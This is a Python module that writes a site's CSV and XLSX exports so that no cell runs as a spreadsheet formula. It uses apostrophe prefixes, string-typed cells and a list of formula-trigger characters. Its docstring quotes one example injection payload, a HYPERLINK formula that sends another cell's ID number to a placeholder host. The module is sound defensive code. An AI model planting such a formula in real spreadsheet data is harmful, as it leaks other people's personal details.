"""Every CSV and XLSX file the site writes is written here, so none can carry a live spreadsheet formula.

Pure: stdlib plus openpyxl (imported lazily).

Spreadsheet formula injection (CSV injection): a host can type ``=HYPERLINK("http://x/?"&C2,"x")`` as their legal
name; a spreadsheet that opens an export runs it, and the formula can read other cells (another host's ID number)
into a link. So:

- text is always text. In a CSV, a value starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets
  a leading apostrophe (OWASP's advice: Excel and WPS show such a cell as text). In an XLSX every text value is a
  string cell (never a formula, whatever it starts with), and a risky one is also marked "quote prefix", so that
  editing the cell in Excel keeps it text;
- a column that is numeric by design is given real numbers (``int``, ``float``, ``Decimal``): written as numbers
  in both formats, which no spreadsheet runs. Anything else (an ID or certificate number, a code) is passed as
  ``str`` and stays text, so Excel neither runs nor rounds it;
- dates are ISO dates in a CSV and date cells in an XLSX; None is an empty cell;
- characters XML cannot hold (most C0 controls) are dropped from XLSX cells.

CSV files are UTF-8 with a byte-order mark (so Excel in China reads the Chinese) and CRLF line ends.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal

__all__ = ["FORMULA_STARTS", "Sheet", "csv_bytes", "csv_cell", "neutralise", "xlsx_bytes"]

#: What makes Excel, LibreOffice or WPS read a cell as a formula (or DDE command).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBERS = (int, float, Decimal)
_WIDTH_SAMPLE = 2000  # rows looked at to size the columns of a sheet


#: The media type of each file kind the site writes, for a download's Content-Type.
MIMETYPES = {"csv": "text/csv", "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
             "pdf": "application/pdf", "json": "application/json"}


def neutralise(text: str) -> str:
    """Text a spreadsheet shows as text: a leading apostrophe before a formula character."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_cell(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, _NUMBERS):
        return str(value)  # numeric by design: -5 is a number, never a formula
    if isinstance(value, (date, datetime)):
        return value.isoformat()
    return neutralise(str(value))


def csv_bytes(header: Sequence[object], rows: Iterable[Sequence[object]]) -> bytes:
    """A CSV file: the header, then one line per row; every cell through :func:`csv_cell`."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([csv_cell(v) for v in header])
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
    return out.getvalue().encode("utf-8-sig")


@dataclass(frozen=True)
class Sheet:
    #: At most 31 characters, none of ``/ \\ ? * [ ] :`` (Excel refuses them).
    title: str
    header: Sequence[str]
    #: One value per column, as for :func:`csv_cell`. A list is also used to size the columns.
    rows: Iterable[Sequence[object]]


def _width(value: object) -> int:
    if value is None:
        return 0
    if isinstance(value, date):
        return 10
    text = value if isinstance(value, str) else str(value)
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in text)


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    """An XLSX workbook (openpyxl's streaming write-only mode, for 100,000-row sheets): a bold, frozen header row,
    typed cells, columns as wide as their content."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    book = Workbook(write_only=True)
    bold = Font(bold=True)
    for spec in sheets:
        sheet = book.create_sheet(spec.title)

        def cell(value: object, *, header: bool = False) -> object:
            if value is None or isinstance(value, (bool, int, float)):
                return value
            if isinstance(value, Decimal):
                return float(value)
            if isinstance(value, (date, datetime)):
                dated = WriteOnlyCell(sheet, value=value)
                dated.number_format = "yyyy-mm-dd" if not isinstance(value, datetime) else "yyyy-mm-dd hh:mm"
                return dated
            text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
            written = WriteOnlyCell(sheet, value=text)
            written.data_type = "s"  # never a formula, whatever the text starts with
            if text.startswith(FORMULA_STARTS):
                written.quotePrefix = True  # and Excel keeps it text when someone edits the cell
            if header:
                written.font = bold
            return written

        rows = spec.rows
        if isinstance(rows, Sequence):
            widths = [_width(h) for h in spec.header]
            for row in rows[:_WIDTH_SAMPLE]:
                for index, value in enumerate(row[: len(widths)]):
                    widths[index] = max(widths[index], _width(value))
            for index, width in enumerate(widths, start=1):
                sheet.column_dimensions[get_column_letter(index)].width = min(max(width + 2, 8), 48)
        sheet.freeze_panes = "A2"
        sheet.append([cell(h, header=True) for h in spec.header])
        for row in rows:
            sheet.append([cell(v) for v in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
